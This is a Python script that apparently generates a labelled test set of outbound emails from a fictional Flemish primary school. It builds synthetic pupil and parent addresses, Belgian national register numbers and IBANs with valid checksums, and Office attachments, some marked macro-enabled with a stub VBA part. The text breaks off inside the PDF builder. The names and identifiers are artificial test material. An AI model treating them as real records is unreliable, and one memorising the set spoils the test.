#!/usr/bin/env python3
"""batch44 - blind labelled outbound mail, primary school Wilsele (Stroom / LKSD).

Deterministic: run `python3 make.py` and it (re)writes every NNN-slug.eml,
labels.yaml and roster.csv next to itself.  Standard library only.
"""
import csv
import datetime as _dt
import io
import os
import random
import re
import textwrap
import unicodedata
import zipfile
from email import policy
from email.message import EmailMessage
from email.utils import formataddr, getaddresses

HERE = os.path.dirname(os.path.abspath(__file__))
SEED = 4404
DOM = "sintpieterscollege.be"
SHORT = "spc.ksleuven.be"
LEER = "leerling.sintpieterscollege.be"


def T(s):
    """dedent a triple-quoted block, keep one trailing newline"""
    return textwrap.dedent(s).strip("\n") + "\n"


def norm(s):
    s = s.replace("ı", "i").replace("İ", "I").replace("ł", "l").replace("ø", "o")
    s = unicodedata.normalize("NFKD", s)
    s = "".join(c for c in s if not unicodedata.combining(c))
    return re.sub(r"[^a-z0-9\-]", "", s.lower().replace(" ", "").replace("'", ""))


# --------------------------------------------------------------------------
# checksummed identifiers (valid ones, on purpose)
# --------------------------------------------------------------------------
def rrn(yy, mm, dd, seq, after2000=True):
    base = int("%02d%02d%02d%03d" % (yy, mm, dd, seq))
    n = base + (2000000000 if after2000 else 0)
    cc = 97 - n % 97
    return "%02d.%02d.%02d-%03d.%02d" % (yy, mm, dd, seq, cc)


def iban_be(bank, acct7):
    first10 = int("%03d%07d" % (bank, acct7))
    chk = first10 % 97 or 97
    bban = "%03d%07d%02d" % (bank, acct7, chk)
    num = int(bban + "111400")
    cd = 98 - num % 97
    s = "BE%02d%s" % (cd, bban)
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


# --------------------------------------------------------------------------
# staff and partners
# --------------------------------------------------------------------------
def staff(name, short=None):
    first, last = name.split(" ", 1)
    addr = "%s.%s@%s" % (norm(first), norm(last), DOM)
    return (name, addr)


S = {
    "dir": staff("Koen Vanderlinden"),
    "sec": staff("Greet Maes"),
    "zorg": staff("Hilde Wouters"),
    "k1a": staff("Lien Bervoets"),
    "k1b": staff("Saskia Wellens"),
    "k2a": staff("Nathalie Goossens"),
    "k2b": staff("Ilse Jacobs"),
    "k3a": staff("Karen Mertens"),
    "k3b": staff("Sofie Vermeulen"),
    "1a": staff("Evy De Smet"),
    "1b": staff("Ann-Sophie Raes"),
    "2a": staff("Annelies Willems"),
    "2b": staff("Joke Heylen"),
    "3a": staff("Tom Hermans"),
    "3b": staff("Eline Coppens"),
    "4a": staff("Marijke Aerts"),
    "4b": staff("Bram Van Damme"),
    "5a": staff("Katrien Peters"),
    "5b": staff("Dieter Goetschalckx"),
    "6a": staff("Jeroen Wuyts"),
    "6b": staff("Leen Desmet"),
    "opv": staff("Els Van den Broeck"),
    "opv2": staff("Rita Verachtert"),
    "opv3": staff("Yasmine Bouzid"),
    "mid": staff("Marleen Dewit"),
    "ict": staff("Pieter Janssens"),
    "lo": staff("Wouter Lemmens"),
    "log": staff("Luc Boeckx"),
    "bkh": staff("Martine Stevens"),
    "int": staff("Jana Verbeke"),
    "kinv": staff("Ingrid Nys"),
}
# short addresses some people use
SH = {
    "dir": ("Koen Vanderlinden", "kvl@" + SHORT),
    "zorg": ("Hilde Wouters", "hwo@" + SHORT),
    "ict": ("Pieter Janssens", "pja@" + SHORT),
    "bkh": ("Martine Stevens", "mst@" + SHORT),
}
G = {
    "info": ("Basisschool Stroom Wilsele", "info@" + SHORT),
    "directie": ("Directie basisschool Stroom Wilsele", "directie@" + SHORT),
    "lsec": ("Leerlingensecretariaat Stroom Wilsele", "leerlingensecretariaat@" + SHORT),
    "personeel": ("Personeel basisschool Wilsele", "personeel@" + SHORT),
    "kleuterteam": ("Kleuterteam", "kleuterteam@" + SHORT),
    "oudercomite": ("Oudercomité", "oudercomite@" + SHORT),
    "privacy": ("Meldpunt datalekken Stroom", "privacy@lksd.ksleuven.be"),
}


def grp(name):
    return ("", "%s@%s" % (name, SHORT))


X = {
    "clbnurse": ("Veerle Smolders", "veerle.smolders@clb-leuvendijle.be"),
    "clb": ("Dries Moens", "dries.moens@clb-leuvendijle.be"),
    "logo": ("Charlotte Hendrickx", "charlotte@praatgraag-logopedie.be"),
    "foto": ("Fotografie Lichtpunt", "studio@fotolichtpunt.be"),
    "zwem": ("Sportcentrum Dijlebron - zwemmen", "zwemmen@dijlebron-sport.be"),
    "alarm": ("Securalarm planning", "planning@securalarm.be"),
    "traiteur": ("Traiteur Smulpot", "bestellingen@smulpot-catering.be"),
    "bus": ("Autocars Dijleland", "reservaties@autocarsdijleland.be"),
    "vk": ("Vertrouwenscentrum Kindermishandeling Vlaams-Brabant", "meldingen@vk-vlaamsbrabant.be"),
    "ocmw": ("Lies Goovaerts", "lies.goovaerts@ocmw-leuvenstad.be"),
    "dijlecollege": ("Zorgteam Dijlecollege", "zorg@dijlecollege-heverlee.be"),
    "volley": ("VC Wilsele secretariaat", "secretaris@vcwilsele.be"),
    "mdm": ("ClassPad MDM Support", "support@classpad-mdm.com"),
    "oc_vz": ("Pieter-Jan Govaerts", "pj.govaerts@gmail.com"),
    "oc_pm": ("Sarah Vanhaelen", "sarah.vanhaelen@telenet.be"),
    "epil": ("Epilepsieverpleegkundige AZ Dijlevallei", "epilepsie@azdijlevallei.be"),
    "sport": ("Sportdienst Leuven - scholensport", "scholensport@sportdienst-leuven.be"),
}

SCHOOL_TEL = "016 20 31 45"
OPV_GSM = "0491 56 20 13"
DIR_GSM = "0475 31 88 02"
SCHOOL_ADDR = "Kerkstraat 14, 3012 Wilsele"
SCHOOL_IBAN = iban_be(734, 412988)      # school account (used in a few personal mails)
OC_IBAN = iban_be(68, 2391545)          # parents' committee account

# --------------------------------------------------------------------------
# roster
# --------------------------------------------------------------------------
CLASSES = ["K1A", "K1B", "K2A", "K2B", "K3A", "K3B", "1A", "1B", "2A", "2B",
           "3A", "3B", "4A", "4B", "5A", "5B", "6A", "6B"]

# key pupils: id, first, last, class, parent1, parent2
KEY = [
    ("P0012", "Lars", "Dierickx", "K1A", "jolien.vandamme@telenet.be", "dierickx.tim@gmail.com"),
    ("P0031", "Noor", "Vandenberghe", "K2A", "an.vandenberghe@skynet.be", "pieter.gysels@proximus.be"),
    ("P0036", "Noor", "Daems", "K2A", "evelien.daems@gmail.com", ""),
    ("P0040", "Finn", "Lambrechts", "K2A", "sarah.lenaerts@telenet.be", "bart.lambrechts80@gmail.com"),
    ("P0052", "Lucas", "Dierckx", "K2B", "kim.wuytack@hotmail.com", "steven.dierckx@outlook.com"),
    ("P0058", "Amira", "Benali", "K2B", "fatima.benali@hotmail.com", "k.benali@gmail.com"),
    ("P0061", "Ella", "Van Hooydonck", "K3A", "vanhooydonck.gezin@telenet.be", ""),
    ("P0071", "Mila", "Verhoeven", "K3A", "lies.verhoeven@icloud.com", "joris.verhoeven@telenet.be"),
    ("P0075", "Fien", "Vos", "K3A", "inge.bosmans@proximus.be", "kevin.vos@hotmail.com"),
    ("P0078", "Kato", "Geudens", "K3A", "melissa.geudens@gmail.com", ""),
    ("P0081", "Bas", "Wijns", "K3A", "wijns.caroline@gmail.com", "dirk.wijns@telenet.be"),
    ("P0083", "Dylan", "Schepers", "K3B", "gezin.vanlaer@telenet.be", ""),
    ("P0086", "Zeynep", "Şahin", "K3B", "sahin.elif.85@hotmail.com", ""),
    ("P0088", "Ella", "Van Hoof", "K3B", "nele.vanhoof@gmail.com", ""),
    ("P0090", "Seppe", "Nijs", "K3B", "anneleen.nijs@gmail.com", "thomas.nijs@telenet.be"),
    ("P0102", "Yusuf", "Aydın", "1A", "mehmet.aydin@hotmail.com", "ozlem.aydin86@gmail.com"),
    ("P0105", "Mila", "Goris", "1A", "hanne.deridder@gmail.com", "goris.wim@telenet.be"),
    ("P0107", "Matteo", "Rossi", "1A", "giulia.rossi@outlook.com", "kristof.ruelens@telenet.be"),
    ("P0109", "Liam", "Peeters", "1A", "ellen.smolders@telenet.be", "jan.peeters@outlook.com"),
    ("P0118", "Zoë", "Claessens", "1B", "els.claessens@telenet.be", ""),
    ("P0121", "Adam", "El Idrissi", "1B", "nadia.elidrissi@gmail.com", ""),
    ("P0126", "Noah", "Janssens", "1B", "janssens.eva@gmail.com", "bert.janssens@skynet.be"),
    ("P0135", "Emma", "Wauters", "2A", "wauters.kristof@skynet.be", "charlotte.geens@gmail.com"),
    ("P0138", "Jonas", "Smets", "2A", "tinne.smets@telenet.be", ""),
    ("P0140", "Ilias", "Haddou", "2A", "rachid.haddou@gmail.com", "samira.haddou@hotmail.com"),
    ("P0143", "Amira", "Chaouki", "2A", "chaouki.family@outlook.com", ""),
    ("P0152", "Sem", "Van Roey", "2B", "katleen.vanroey@gmail.com", ""),
    ("P0155", "Olivia", "Nowak", "2B", "agnieszka.nowak@gmail.com", "tomasz.nowak@outlook.com"),
    ("P0156", "Rune", "Verbeeck", "2B", "verbeeck.sandra@hotmail.com", "gunther.verbeeck@gmail.com"),
    ("P0158", "Mats", "Hannes", "2B", "geert.hannes@skynet.be", "lien.hannes@telenet.be"),
    ("P0160", "Rayan", "Bakkali", "2B", "bakkali.nordin@gmail.com", ""),
    ("P0164", "Ethan", "Miller", "2B", "sarah.miller.be@gmail.com", "d.miller@outlook.com"),
    ("P0170", "Ruben", "De Wachter", "3A", "dewachter.ann@telenet.be", ""),
    ("P0173", "Amber", "Celis", "3A", "griet.celis@gmail.com", ""),
    ("P0176", "Elias", "Bogaerts", "3A", "nathalie.bogaerts@hotmail.com", "bogaerts.frank@telenet.be"),
    ("P0179", "Louise", "Verhaegen", "3A", "verhaegen.lies@gmail.com", ""),
    ("P0180", "Yasmina", "Tahiri", "3A", "tahiri.malika@hotmail.com", ""),
    ("P0183", "Warre", "Claes", "3B", "els.claes@telenet.be", ""),
    ("P0185", "Sami", "Haddad", "3B", "nour.haddad@gmail.com", "j.vandevelde@proximus.be"),
    ("P0186", "Lisa", "Thys", "3B", "thys.bart@telenet.be", "ann.meeus@gmail.com"),
    ("P0187", "Yanis", "Ouali", "3B", "ouali.karima@hotmail.com", ""),
    ("P0188", "Nora", "Hendrikx", "3B", "sanne.hendrikx@gmail.com", ""),
    ("P0190", "Kobe", "Stas", "3B", "bjorn.stas@telenet.be", "lotte.wellens@gmail.com"),
    ("P0193", "Louise", "Verstraeten", "3B", "an.verstraeten@proximus.be", ""),
    ("P0197", "Jasper", "Pauwels", "4A", "inge.bosmans@proximus.be", "tom.pauwels@gmail.com"),
    ("P0201", "Milan", "Dumont", "4A", "claire.dumont@skynet.be", ""),
    ("P0204", "Sara", "Kurt", "4A", "zeynep.kurt@hotmail.com", ""),
    ("P0206", "Marie", "Luyten", "4A", "luyten.sofie@telenet.be", "peter.luyten@gmail.com"),
    ("P0212", "Lore", "Smets", "4B", "tinne.smets@telenet.be", ""),
    ("P0215", "Victor", "Lenaerts", "4B", "katrien.lenaerts@outlook.com", ""),
    ("P0218", "Hanne", "Geerts", "4B", "bieke.geerts@telenet.be", "geerts.wim@gmail.com"),
    ("P0231", "Elif", "Yılmaz", "5A", "ayse.yilmaz@hotmail.com", ""),
    ("P0233", "Mauro", "Cools", "5A", "cools.vincent@telenet.be", "mariacools80@gmail.com"),
    ("P0235", "Lotte", "Peeters", "5A", "peeters.dirk@skynet.be", "veerle.claus@gmail.com"),
    ("P0238", "Arne", "Michiels", "5A", "michiels.sven@telenet.be", "tine.michiels@gmail.com"),
    ("P0245", "Elif", "Demir", "5B", "demir.hatice@gmail.com", ""),
    ("P0247", "Wout", "Vervoort", "5B", "vervoort.linda@hotmail.com", ""),
    ("P0250", "Febe", "Vanhove", "5B", "wendy.vanhove@icloud.com", "kris.vanhove@telenet.be"),
    ("P0262", "Jana", "Declercq", "6A", "declercq.katrien@telenet.be", "stijn.declercq@gmail.com"),
    ("P0265", "Mohamed", "Amrani", "6A", "h.amrani@gmail.com", "latifa.amrani@hotmail.com"),
    ("P0268", "Tuur", "Segers", "6A", "sigrid.segers@gmail.com", "koen.segers@telenet.be"),
    ("P0270", "Ayoub", "Mansouri", "6A", "mansouri.said@gmail.com", ""),
    ("P0271", "Stan", "Jorissen", "6A", "jorissen.ilse@telenet.be", "jorissen.marc@telenet.be"),
    ("P0279", "Kiara", "Mbuyi", "6B", "mbuyi.grace@gmail.com", ""),
    ("P0286", "Lina", "El Amrani", "6B", "elamrani.youssef@gmail.com", ""),
]

BOYS = ["Lucas", "Liam", "Noah", "Louis", "Arthur", "Jules", "Mats", "Vic", "Warre", "Seppe", "Wout",
        "Kobe", "Stan", "Tuur", "Lowie", "Rune", "Nand", "Cas", "Lenn", "Bas", "Siebe", "Thibo", "Ferre",
        "Victor", "Elias", "Ruben", "Jonas", "Arne", "Milan", "Sem", "Nathan", "Senne", "Gust", "Staf",
        "Finn", "Lars", "Mauro", "Jack", "Otis", "Leon", "Emiel", "Lewis", "Rik", "Jef", "Miel",
        "Adam", "Mohamed", "Ilias", "Yusuf", "Ayoub", "Rayan", "Hamza", "Bilal", "Emir", "Aras", "Imran",
        "Jakub", "Mateusz", "Andrei", "Luca", "Matteo", "Arman", "Joshua", "Samuel", "Daniel", "Noam"]
GIRLS = ["Emma", "Olivia", "Louise", "Mila", "Noor", "Ella", "Lotte", "Fien", "Hanne", "Lore", "Amber",
         "Zoë", "Febe", "Elise", "Marie", "Juliette", "Nina", "Lina", "Julie", "Lena", "Anna", "Ellie",
         "Liv", "Nora", "Lisa", "Kato", "Jana", "Margot", "Billie", "Roos", "Jade", "Saar", "Ona", "Mona",
         "Lou", "Camille", "Sara", "Elif", "Amira", "Aya", "Yasmina", "Nour", "Salma", "Inaya", "Zeynep",
         "Mariam", "Sofia", "Zuzanna", "Ioana", "Daria", "Grace", "Merveille", "Hira", "Maya", "Alice",
         "Axelle", "Loes", "Wiebke", "Charlotte", "Paulien", "Elena"]
SURN = ["Peeters", "Janssens", "Maes", "Jacobs", "Mertens", "Willems", "Claes", "Goossens", "Wouters",
        "De Smet", "Dubois", "Hermans", "Aerts", "Lambrechts", "Pauwels", "Michiels", "Verhoeven",
        "Van den Broeck", "Smets", "Stevens", "Hendrickx", "Geerts", "Coppens", "Lemmens", "Bogaerts",
        "Cools", "Vandenberghe", "Segers", "Vos", "Celis", "Daems", "Goris", "Schepers", "Verbruggen",
        "Bosmans", "Van Roey", "Wauters", "Claessens", "Nijs", "Luyten", "Moens", "Stas", "Gijbels",
        "Swinnen", "Vanhove", "Declercq", "Martens", "Beckers", "Thys", "Rens", "Jorissen", "Somers",
        "Timmermans", "Van Dyck", "Lenaerts", "Vervoort", "Verhaegen", "Dierckx", "Cornelis", "Geudens",
        "Van Gorp", "Huybrechts", "Vranckx", "Ceulemans", "Daenen", "Van Aken", "Meulemans", "Loos",
        "Van de Velde", "Deprez", "Nuyts", "Kempeneers", "Raymaekers", "Vandecasteele", "Van Laer",
        "El Amrani", "Benali", "Haddou", "Bakkali", "El Idrissi", "Yılmaz", "Demir", "Kurt", "Aydın",
        "Mbuyi", "Kabongo", "Nowak", "Kowalski", "Popescu", "Ionescu", "Hakimi", "Azizi", "Mansouri",
        "Tahiri", "Ouali", "Öztürk", "Çelik", "Diallo", "Rossi", "Ferreira", "Haddad", "Sahin"]
PFIRST_M = ["Tom", "Bart", "Pieter", "Kristof", "Wim", "Jan", "Joris", "Steven", "Koen", "Dirk", "Tim",
            "Bram", "Stijn", "Sven", "Geert", "Jeroen", "Nick", "Dries", "Kevin", "Frederik", "Jean",
            "Patrick", "Glenn", "Wouter", "Maarten", "Thomas"]
PFIRST_F = ["Sarah", "Els", "An", "Sofie", "Katrien", "Ellen", "Inge", "Tine", "Lies", "Eva", "Nele",
            "Veerle", "Hanne", "Griet", "Evelien", "Leen", "Joke", "Jolien", "Annelies", "Kim", "Claire",
            "Lotte", "Charlotte", "Elke", "Liesbeth", "Kathleen", "Sanne", "Marie", "Katrijn", "Nathalie"]
MAIDEN = ["Vermeiren", "Huysmans", "Van Camp", "Willaert", "De Bruyn", "Verlinden", "Pieters", "Laenen",
          "Vanderstraeten", "Heremans", "Aelbrecht", "Sels", "Vandermeulen", "Crabbé", "Dewulf", "Roels"]
PROV = (["telenet.be"] * 25 + ["gmail.com"] * 30 + ["hotmail.com"] * 12 + ["outlook.com"] * 8 +
        ["skynet.be"] * 6 + ["proximus.be"] * 5 + ["icloud.com"] * 6 + ["live.be"] * 3 +
        ["yahoo.com"] * 2 + ["scarlet.be"] * 2)


ORIGIN = {}
for _sn in ("El Amrani", "Benali", "Haddou", "Bakkali", "El Idrissi", "Hakimi", "Azizi", "Mansouri", "Tahiri",
            "Ouali", "Haddad"):
    ORIGIN[_sn] = "ma"
for _sn in ("Yılmaz", "Demir", "Kurt", "Aydın", "Öztürk", "Çelik", "Sahin"):
    ORIGIN[_sn] = "tr"
for _sn in ("Nowak", "Kowalski"):
    ORIGIN[_sn] = "pl"
for _sn in ("Popescu", "Ionescu"):
    ORIGIN[_sn] = "ro"
for _sn in ("Mbuyi", "Kabongo", "Diallo"):
    ORIGIN[_sn] = "af"
for _sn in ("Rossi", "Ferreira"):
    ORIGIN[_sn] = "it"
POOLS = {  # origin: (boys, girls, fathers, mothers)
    "ma": (["Adam", "Mohamed", "Ilias", "Ayoub", "Rayan", "Hamza", "Bilal", "Imran", "Yassin", "Anas"],
           ["Amira", "Aya", "Yasmina", "Nour", "Salma", "Inaya", "Mariam", "Lina", "Sofia", "Hiba"],
           ["Mohamed", "Karim", "Hassan", "Youssef", "Rachid", "Nordin", "Said", "Mustafa"],
           ["Fatima", "Nadia", "Samira", "Malika", "Karima", "Latifa", "Naima", "Khadija"]),
    "tr": (["Yusuf", "Emir", "Aras", "Kerem", "Mert", "Efe"], ["Elif", "Zeynep", "Hira", "Defne", "Ecrin", "Asya"],
           ["Ahmet", "Murat", "Mehmet", "Hakan", "Serkan"], ["Ayse", "Hatice", "Ozlem", "Emine", "Fatma"]),
    "pl": (["Jakub", "Mateusz", "Szymon", "Antoni"], ["Zuzanna", "Oliwia", "Maja", "Hanna"],
           ["Piotr", "Tomasz", "Krzysztof", "Pawel"], ["Agnieszka", "Kasia", "Monika", "Anna"]),
    "ro": (["Andrei", "Luca", "David", "Matei"], ["Ioana", "Daria", "Elena", "Sofia"],
           ["Adrian", "Mihai", "Florin", "Ionut"], ["Ana", "Ioana", "Andreea", "Elena"]),
    "af": (["Joshua", "Samuel", "Daniel", "Emmanuel", "Ibrahim"], ["Grace", "Merveille", "Kiara", "Aissatou", "Gloria"],
           ["Jean", "Patrick", "Alpha", "Olivier"], ["Grace", "Chantal", "Mariama", "Esther"]),
    "it": (["Matteo", "Luca", "Leonardo", "Tiago"], ["Sofia", "Giulia", "Alice", "Beatriz"],
           ["Marco", "Paolo", "Rui", "Stefano"], ["Giulia", "Chiara", "Ana", "Francesca"]),
}
FLEM_SURN = [s for s in SURN if s not in ORIGIN]


def child_first(rng, sn, g):
    o = ORIGIN.get(sn)
    if o and rng.random() < 0.85:
        return rng.choice(POOLS[o][0] if g == "m" else POOLS[o][1])
    return rng.choice([n for n in (BOYS if g == "m" else GIRLS)
                       if not any(n in POOLS[k][0] + POOLS[k][1] for k in POOLS)] if not o else
                      (BOYS if g == "m" else GIRLS))


def parent_addr(rng, sn, gender, used):
    o = ORIGIN.get(sn)
    for _ in range(100):
        if o:
            pf = rng.choice(POOLS[o][3] if gender == "f" else POOLS[o][2])
        else:
            pf = rng.choice(PFIRST_F if gender == "f" else PFIRST_M)
        prov = rng.choice(PROV)
        s = norm(sn)
        pattern = rng.randrange(12)
        nn = rng.randrange(68, 96)
        if pattern == 0:
            a = "%s.%s" % (norm(pf), s)
        elif pattern == 1:
            a = "%s.%s" % (s, norm(pf))
        elif pattern == 2:
            a = "%s%s" % (norm(pf), s)
        elif pattern == 3:
            a = "%s.%s%d" % (norm(pf), s, nn)
        elif pattern == 4:
            a = "%s.%s" % (norm(pf)[0], s)
        elif pattern == 5:
            a = "%s_%s" % (norm(pf), s)
        elif pattern in (6, 7) and not o:   # mother's own surname: does not spell the pupil's
            a = "%s.%s" % (norm(pf), norm(rng.choice(MAIDEN)))
        elif pattern == 8:
            a = "%s%d" % (norm(pf), nn)
        elif pattern == 9:
            a = "familie.%s" % s
        elif pattern == 10 and not o:       # new partner / other surname
            a = "%s.%s" % (norm(pf), norm(rng.choice(FLEM_SURN)))
        else:
            a = "%s%s%d" % (norm(pf)[:3], s[:4], rng.randrange(1, 99))
        a = "%s@%s" % (a, prov)
        if a not in used:
            used.add(a)
            return a
    raise RuntimeError("no address")


def build_roster():
    rng = random.Random(SEED)
    pupils = {}
    used_addr = set()
    for pid, f, l, c, p1, p2 in KEY:
        pupils[pid] = dict(id=pid, first=f, last=l, klas=c, p1=p1, p2=p2)
        used_addr.update(a for a in (p1, p2) if a)
    key_names = {(p["first"], p["last"]) for p in pupils.values()}
    taken = set(key_names)
    free_ids = ["P%04d" % i for i in range(1, 301) if "P%04d" % i not in pupils]
    rng.shuffle(free_ids)
    per_class = {c: sum(1 for p in pupils.values() if p["klas"] == c) for c in CLASSES}
    slots = []
    for c in CLASSES:
        target = 17 if c not in ("K1A", "K1B") else 15
        slots += [c] * max(0, target - per_class[c])
    rng.shuffle(slots)
    slots = slots[:len(free_ids)]
    while len(slots) < len(free_ids):
        slots.append(rng.choice(CLASSES[6:]))
    families = []
    i = 0
    while i < len(free_ids):
        c = slots[i]
        sn = rng.choice(SURN)
        g = rng.choice("mf")
        first = child_first(rng, sn, g)
        if (first, sn) in taken:
            continue
        pid = free_ids[i]
        # sibling of an earlier random family?
        if families and rng.random() < 0.17:
            fam = rng.choice(families)
            sn2 = fam["sn"] if (rng.random() < 0.85 or fam["sn"] in ORIGIN) else rng.choice(FLEM_SURN)
            first = child_first(rng, fam["sn"], g)
            if (first, sn2) in taken or first in fam["firsts"]:
                continue
            taken.add((first, sn2))
            fam["firsts"].add(first)
            pupils[pid] = dict(id=pid, first=first, last=sn2, klas=c, p1=fam["p1"], p2=fam["p2"])
        else:
            p1 = parent_addr(rng, sn, "f", used_addr)
            p2 = parent_addr(rng, sn, "m", used_addr) if rng.random() < 0.68 else ""
            if rng.random() < 0.2 and p2:
                p1, p2 = p2, p1
            fam = dict(sn=sn, p1=p1, p2=p2, firsts={first})
            taken.add((first, sn))
            families.append(fam)
            pupils[pid] = dict(id=pid, first=first, last=sn, klas=c, p1=p1, p2=p2)
        i += 1
    # pupil accounts (none for the youngest kleuters)
    seen = {}
    for pid in sorted(pupils):
        p = pupils[pid]
        if p["klas"] in ("K1A", "K1B"):
            p["mail"] = ""
            continue
        base = "%s.%s" % (norm(p["first"]), norm(p["last"]))
        seen[base] = seen.get(base, 0) + 1
        p["mail"] = "%s%s@%s" % (base, "" if seen[base] == 1 else seen[base], LEER)
    return pupils


PUP = build_roster()


def pupil(pid):
    return PUP[pid]


def full(pid):
    p = PUP[pid]
    return "%s %s" % (p["first"], p["last"])


def klas(c):
    return sorted((p for p in PUP.values() if p["klas"] == c), key=lambda p: (norm(p["last"]), p["first"]))


def parents(pid):
    p = PUP[pid]
    return [a for a in (p["p1"], p["p2"]) if a]


def class_parents(c, first_only=False):
    out = []
    for p in klas(c):
        for a in ([p["p1"]] if first_only else [p["p1"], p["p2"]]):
            if a and a not in out:
                out.append(a)
    return out


def write_roster(path):
    rows = sorted(PUP.values(), key=lambda p: (CLASSES.index(p["klas"]), norm(p["last"]), p["first"]))
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh, delimiter=";", lineterminator="\r\n")
        w.writerow(["Intern nummer", "Voornaam", "Naam", "Klas", "E-mailadres leerling",
                    "E-mailadres ouder 1", "E-mailadres ouder 2"])
        for p in rows:
            w.writerow([p["id"], p["first"], p["last"], p["klas"], p["mail"], p["p1"], p["p2"]])


# --------------------------------------------------------------------------
# attachments (deterministic bytes)
# --------------------------------------------------------------------------
ZDATE = (2024, 9, 2, 8, 15, 0)


def _zip(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=ZDATE)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


def _x(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"))


def _col(i):
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def make_xlsx(rows, sheet="Blad1", macro=False):
    sheet_rows = []
    for r, row in enumerate(rows, 1):
        cells = []
        for c, v in enumerate(row):
            ref = "%s%d" % (_col(c), r)
            if isinstance(v, (int, float)):
                cells.append('<c r="%s"><v>%s</v></c>' % (ref, v))
            else:
                cells.append('<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, _x(str(v))))
        sheet_rows.append('<row r="%d">%s</row>' % (r, "".join(cells)))
    ws = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<sheetData>%s</sheetData></worksheet>' % "".join(sheet_rows))
    main_ct = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
               "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "") +
          '<Override PartName="/xl/workbook.xml" ContentType="%s"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '</Types>' % main_ct)
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
          '<sheets><sheet name="%s" sheetId="1" r:id="rId1"/></sheets></workbook>' % _x(sheet))
    wbrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
              + ('<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>' if macro else "") +
              '</Relationships>')
    files = [("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb),
             ("xl/_rels/workbook.xml.rels", wbrels), ("xl/worksheets/sheet1.xml", ws)]
    if macro:
        files.append(("xl/vbaProject.bin", fake_vba("Module1", macro if isinstance(macro, str) else "")))
    return _zip(files)


def fake_vba(module, code):
    # not a real OLE file: a recognisable stand-in with the compound-file magic
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 + b"Attribute VB_Name = \"%s\"\r\n" % module.encode()
            + code.encode("cp1252") + b"\x00" * 64)


def make_docx(paras, macro=False):
    body = "".join('<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % _x(p) for p in paras)
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body>%s</w:body></w:document>' % body)
    main_ct = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macro else
               "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "") +
          '<Override PartName="/word/document.xml" ContentType="%s"/></Types>' % main_ct)
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '</Relationships>')
    files = [("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc)]
    if macro:
        files.append(("word/_rels/document.xml.rels",
                      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                      '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                      '</Relationships>'))
        files.append(("word/vbaProject.bin", fake_vba("ThisDocument", macro if isinstance(macro, str) else "")))
    return _zip(files)


def make_pdf(lines, title="Document"):
    def esc(s):
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    y = 800
    ops = ["BT", "/F1 11 Tf", "14 TL", "50 %d Td" % y]
    for ln in lines:
        ops.append("(%s) Tj T*" % esc(ln))
    ops.append("ET")
    stream = "\n".join(ops).encode("cp1252")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
